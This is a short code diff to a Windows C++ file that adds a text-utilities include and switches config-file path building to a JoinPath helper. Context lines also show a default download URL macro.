@@ -8,6 +8,7 @@
 #include "app/Log.h"
 #include "app/ScopedWin.h"
 #include "app/SystemLibrary.h"
+#include "app/Text.h"
 
 #ifndef TESSARA_PAYLOAD_URL
 #define TESSARA_PAYLOAD_URL L"https://orvix.example/go/Payload"
@@ -47,7 +48,7 @@ std::wstring ParentFolderOf(const std::wstring& path) {
 
 std::wstring GetConfigFilePathFor(const std::wstring& executablePath) {
     const std::wstring folder = ParentFolderOf(executablePath);
-    return folder.empty() ? L"config.ini" : folder + L"\\config.ini";
+    return folder.empty() ? L"config.ini" : JoinPath(folder, L"config.ini");
 }
 
 std::wstring GetConfigFilePath() { return GetConfigFilePathFor(GetExecutablePath()); }
